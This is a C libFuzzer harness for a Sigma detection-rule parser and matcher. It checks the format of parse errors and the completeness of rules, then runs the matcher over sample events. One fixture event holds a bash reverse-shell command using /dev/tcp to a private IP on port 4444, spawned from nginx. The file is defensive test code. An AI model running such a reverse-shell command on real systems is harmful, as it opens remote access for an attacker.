/* libFuzzer target: sigma_parse on arbitrary bytes, then the matcher built
 * from whatever parsed, run over a few events. Every error must be one
 * "fuzz.yml:LINE: reason" line; every rule must be complete (title, id, a
 * condition or a correlation with resolved-able rule names). */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include "engine/rule.h"
#include "event/flat.h"

static const char *const events[] = {
	"{\"event\":{\"action\":\"exec\"},\"process\":{\"pid\":42,\"executable\":\"/usr/bin/bash\","
	"\"args\":[\"bash\",\"-i\"],\"command_line\":\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\","
	"\"parent\":{\"executable\":\"/usr/sbin/nginx\"}},\"user\":{\"id\":0}}",
	"{\"event\":{\"action\":\"connect\"},\"destination\":{\"ip\":\"10.1.2.3\",\"port\":4444},"
	"\"network\":{\"direction\":\"egress\"}}",
	"{\"event\":{\"action\":\"file_create\"},\"file\":{\"path\":\"/etc/cron.d/x\"}}",
	"{\"process\":{\"name\":\"\"}}",
};

static void hit(void *ctx, struct rule *r)
{
	(void)ctx;
	if (!r->title || !r->id || !r->cond)
		abort();
}

static void check_errors(const struct strbuf *errs)
{
	const char *p = errs->buf;
	size_t left = errs->len;
	while (left) {
		const char *nl = memchr(p, '\n', left);
		if (!nl)
			abort(); /* every error ends with a newline */
		size_t l = (size_t)(nl - p);
		if (l < 11 || memcmp(p, "fuzz.yml:", 9))
			abort();
		size_t i = 9;
		while (i < l && p[i] >= '0' && p[i] <= '9')
			i++;
		if (i == 9 || i + 2 > l || p[i] != ':' || p[i + 1] != ' ')
			abort();
		left -= l + 1;
		p = nl + 1;
	}
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	char *text = malloc(size + 1);
	if (!text)
		return 0;
	memcpy(text, data, size);
	text[size] = 0;
	struct rule **rules = NULL;
	int n = 0;
	struct strbuf errs;
	sb_init(&errs);
	int added = sigma_parse(text, size, "fuzz.yml", &rules, &n, &errs);
	if (added != n)
		abort();
	check_errors(&errs);
	for (int i = 0; i < n; i++) {
		const struct rule *r = rules[i];
		if (!r->title || !r->id || !r->file || (!r->cond == !r->corr))
			abort();
		if (r->corr && (r->corr->nrules < 1 || r->corr->timespan_ns == 0))
			abort();
		for (int s = 0; s < r->nsels; s++)
			if (r->sels[s].nalts < 1 || !r->sels[s].name)
				abort();
	}
	if (n && size < 8192) {
		sb_reset(&errs);
		struct matcher *m = matcher_build(rules, n, &errs);
		if (m) {
			struct vg_flat fl;
			vg_flat_init(&fl);
			for (size_t e = 0; e < sizeof(events) / sizeof(events[0]); e++) {
				if (vg_flatten_json(&fl, events[e], strlen(events[e])))
					abort();
				matcher_run(m, &fl, hit, NULL);
			}
			vg_flat_free(&fl);
			matcher_free(m);
		}
	}
	for (int i = 0; i < n; i++)
		rule_free(rules[i]);
	free(rules);
	sb_free(&errs);
	free(text);
	return 0;
}
